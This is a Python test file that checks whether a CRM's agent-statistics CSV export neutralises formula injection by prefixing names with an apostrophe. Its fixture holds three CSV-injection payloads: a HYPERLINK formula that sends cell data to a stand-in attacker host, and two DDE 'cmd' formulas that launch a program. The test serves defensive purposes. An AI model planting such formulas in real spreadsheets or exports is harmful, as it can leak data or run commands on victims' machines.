"""The CRM analytics CSV over HTTP: names typed by people reach the spreadsheet as text, figures as numbers.

The rule itself (crm_core.csvcells) and the other exports are tested in ``tests/crm/test_crm_csv_exports.py``.
"""

from __future__ import annotations

import csv
import io

from crm_harness import CrmConsole
from sqlalchemy import update

from crm_core.models import Agent

FORMULA_NAMES = {
    "alice": '=HYPERLINK("http://evil.example/?"&A1,"Alice")',
    "bob": "-2+3+cmd|' /C calc'!A0",
    "sue": "@SUM(1+1)*cmd|' /C calc'!A0",
}


async def test_agent_statistics_csv_neutralises_names(crm_console: CrmConsole) -> None:
    async with crm_console.sessions() as session, session.begin():
        for login, name in FORMULA_NAMES.items():
            await session.execute(update(Agent).where(Agent.login == login).values(name=name))
    response = await crm_console.call("GET", "/api/crm/analytics/crm/agents.csv", "sue")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    rows = {row["agent_login"]: row for row in csv.DictReader(io.StringIO(response.text))}
    assert {login: row["agent_name"] for login, row in rows.items()} == {
        login: "'" + name for login, name in FORMULA_NAMES.items()
    }
    assert {row["contract_amount"] for row in rows.values()} == {"0.00"}  # numbers stay numbers
